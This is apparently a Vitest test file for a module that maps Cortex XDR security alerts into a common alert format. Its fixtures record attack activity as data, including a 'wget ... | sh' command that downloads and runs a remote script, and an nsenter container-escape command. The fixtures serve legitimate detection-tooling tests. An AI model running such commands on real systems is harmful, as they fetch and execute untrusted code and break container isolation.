import { describe, expect, it } from 'vitest';
import { cortexXdr } from '../../../src/alerts/vendors/cortex-xdr.js';
import { FIXTURES, FORMATS, hasShared, mapAll, readJson, readNdjson } from './helpers.js';

describe('cortex-xdr fixture', () => {
  it('maps container fields, array-wrapped process fields and a blocked action', () => {
    const [a] = mapAll(cortexXdr, readJson(`${FIXTURES}cortex-xdr-k8s.json`));
    expect(a).toMatchObject({ id: '4417', time: '2026-01-01T00:00:00.123Z', severity: 'high', action: 'blocked', cluster: 'gke-prod', tactics: ['TA0002'], techniques: ['T1059.004'] });
    expect(a.host).toEqual({ name: 'gke-prod-pool-1-abcd', ips: ['10.128.0.7'] });
    expect(a.container).toEqual({ id: '9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e', name: 'frontend', namespace: 'web', image: 'gcr.io/p/frontend:2.0' });
    expect(a.process).toMatchObject({ name: 'sh', path: '/bin/sh', pid: '31337', user: 'www-data', commandLine: 'sh -c wget -qO- http://203.0.113.5/x.sh | sh' });
    expect(a.process.ancestors).toEqual([{ name: 'node', commandLine: 'node server.js' }]);
    expect(a.network).toEqual({ srcIp: '10.4.1.9', srcPort: 40112, dstIp: '203.0.113.5', dstPort: 80 });
  });
});

describe.skipIf(!hasShared)('cortex-xdr samples', () => {
  it('maps endpoint and NO_HOST alerts (epoch ms, arrays)', () => {
    const [endpoint, feed] = mapAll(cortexXdr, readNdjson(`${FORMATS}cortex_xdr/elastic-integrations_panw_cortex_xdr_test-panw-xdr-v2.log.excerpt.ndjson`));
    expect(endpoint).toMatchObject({ id: '2', time: '2019-09-22T13:36:03.318Z', severity: 'low', action: 'detected', tactics: ['TA0005'], techniques: ['T1089'] });
    expect(endpoint.host.ips).toEqual(['192.168.2.2']);
    expect(endpoint.process).toMatchObject({ pid: '996', user: 'bob@example.com' });
    expect(endpoint.process.ancestors[0].commandLine).toBe('/usr/bin/ssh -l user 10.0.0.16');
    expect(endpoint.network).toMatchObject({ srcIp: '89.160.20.128', srcPort: 8080, dstIp: '1.128.0.0', dstPort: 9099 });
    expect(feed).toMatchObject({ time: '2025-02-17T09:31:51.000Z', action: 'detected', title: 'Alert Name Example 1' });
    expect(feed.host).toEqual({ ips: [] });
  });
});

describe('cortex-xdr process-start events', () => {
  const base = {
    alert_id: '4501', detection_timestamp: 1805166000000, name: 'Container escape through host namespaces', severity: 'high', action: 'DETECTED',
    agent_os_type: 'AGENT_OS_LINUX', host_name: 'wrk-03', host_ip: ['10.50.1.23'], user_name: ['root'],
    actor_process_image_name: ['sh'], actor_process_image_path: ['/bin/sh'], actor_process_command_line: ['sh'], actor_process_os_pid: [4242],
    causality_actor_process_image_name: ['containerd-shim-runc-v2'], causality_actor_process_command_line: ['/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id abc'],
  };
  it('reads the started process as the alert process and the actor as its parent', () => {
    const [a] = mapAll(cortexXdr, [{ ...base, action_process_image_name: ['nsenter'], action_process_image_command_line: ['nsenter --target 1 --mount -- sh'], action_process_image_sha256: ['ab12'] }]);
    expect(a.process).toMatchObject({ name: 'nsenter', commandLine: 'nsenter --target 1 --mount -- sh', user: 'root', hash: 'ab12' });
    expect(a.process.pid).toBeUndefined();
    expect(a.process.ancestors.map((p) => p.name)).toEqual(['sh', 'containerd-shim-runc-v2']);
    expect(a.process.ancestors[0]).toMatchObject({ commandLine: 'sh', pid: '4242' });
  });
  it('keeps the actor as the process when nothing was started (file, network and system-call events)', () => {
    const [a] = mapAll(cortexXdr, [{ ...base, action_process_image_name: null, action_process_image_command_line: null, action_file_path: ['/etc/cron.d/x'] }]);
    expect(a.process).toMatchObject({ name: 'sh', pid: '4242' });
    expect(a.process.ancestors.map((p) => p.name)).toEqual(['containerd-shim-runc-v2']);
  });
});
